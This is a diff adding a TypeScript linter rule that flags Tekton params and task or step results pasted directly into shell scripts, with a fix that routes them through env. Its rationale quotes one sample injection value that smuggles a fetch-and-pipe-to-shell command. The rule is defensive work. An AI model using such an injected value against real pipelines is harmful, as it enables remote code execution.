@@ -1,0 +1,63 @@
+import { asArray } from '../../private/containers';
+import { containerRule } from '../../private/rule-builders';
+import { Severity } from '../rule';
+import { RuleId } from '../rule-id';
+
+/**
+ * Tekton substitutions whose value comes from a run's caller or another task:
+ * `$(params.x)`, `$(params["x"])`, `$(tasks.t.results.r)`, `$(steps.s.results.r)`.
+ */
+const UNTRUSTED_SUBSTITUTION = /\$\(\s*(params(\.|\[)|tasks\.[^.)\s]+\.results|steps\.[^.)\s]+\.results)[^)]*\)/;
+
+const SHELLS = new Set(['sh', 'bash', 'ash', 'dash', 'zsh', 'ksh', 'busybox']);
+
+/** The first untrusted substitution in `text`, if any. */
+export function findInlineSubstitution(text: string): string | undefined {
+  return UNTRUSTED_SUBSTITUTION.exec(text)?.[0];
+}
+
+/** An env var name for a substitution: `$(params.git-url)` -> `GIT_URL`. */
+export function envNameFor(substitution: string): string {
+  const inner = substitution.replace(/^\$\(\s*/, '').replace(/\s*\)$/, '');
+  const last = inner.replace(/\[["']?([^"'\]]+)["']?\]/g, '.$1').split('.').filter(Boolean).pop() ?? 'VALUE';
+  const name = last.toUpperCase().replace(/[^A-Z0-9]+/g, '_').replace(/^_+|_+$/g, '');
+  return /^[0-9]/.test(name) || name === '' ? `P_${name}` : name;
+}
+
+/** The shell program text of a container run as `sh -c '<text>'`, if it is one. */
+function shellCommandText(container: any): string[] {
+  const argv = [...asArray(container?.command), ...asArray(container?.args)].map(String);
+  if (argv.length === 0) return [];
+  const program = argv[0].split('/').pop() ?? '';
+  const c = argv.indexOf('-c');
+  return SHELLS.has(program) && c > 0 ? argv.slice(c + 1) : [];
+}
+
+/** Params and results reach scripts only through env. */
+export const PARAMS_VIA_ENV = containerRule(
+  {
+    id: RuleId.SCRIPT_INJECTION,
+    severity: Severity.HIGH,
+    title: 'Params and results reach scripts only through env',
+    rationale:
+      'Tekton pastes a substitution into the script text before the shell parses it, so a param value such as "main; curl evil.sh | sh" runs as code. Through env it stays data.',
+    fix: 'Pass the value through env and quote the variable in the script.',
+    relaxable: false,
+  },
+  (view) => {
+    const places: Array<{ property: string; text: string }> = [];
+    if (typeof view.container?.script === 'string') places.push({ property: 'script', text: view.container.script });
+    for (const text of shellCommandText(view.container)) places.push({ property: 'args', text });
+    return places.flatMap(({ property, text }) => {
+      const found = findInlineSubstitution(text);
+      if (!found) return [];
+      const env = envNameFor(found);
+      return [{
+        property,
+        value: found,
+        problem: 'pastes a substitution into shell code',
+        fix: `Pass it through env instead: env: [{ name: '${env}', value: '${found}' }] and use "$${env}" (quoted) in the script.`,
+      }];
+    });
+  },
+);
